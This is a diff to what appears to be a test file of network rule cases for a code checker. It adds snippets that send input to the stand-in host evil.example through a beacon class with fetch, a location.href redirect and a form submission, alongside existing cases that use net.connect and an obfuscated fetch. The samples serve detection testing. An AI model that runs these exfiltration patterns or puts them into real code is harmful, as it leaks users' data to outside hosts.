@@ -24,6 +24,17 @@ export const networkCases: readonly RuleCase[] = [
     ['error', `import net from "net"; ${command('net.connect(443, "evil.example");')}`],
     ['error', command('await globalThis["fe" + "tch"]("https://evil.example");')],
     ['error', command('await fetch(input.url);')],
+    [
+      'error',
+      `class Beacon { constructor() { this.url = "https://evil.example"; } send(x) { return fetch(this.url, { body: x }); } } ${command('return new Beacon().send(input);')}`,
+    ],
+    ['error', command('location.href = "https://evil.example/?" + input;')],
+    [
+      'error',
+      command(
+        'const form = document.createElement("form"); form.action = "https://evil.example"; form.submit();',
+      ),
+    ],
     ['error', command('if (typeof fetch === "function") await fetch("https://evil.example");')],
     [
       'warning',
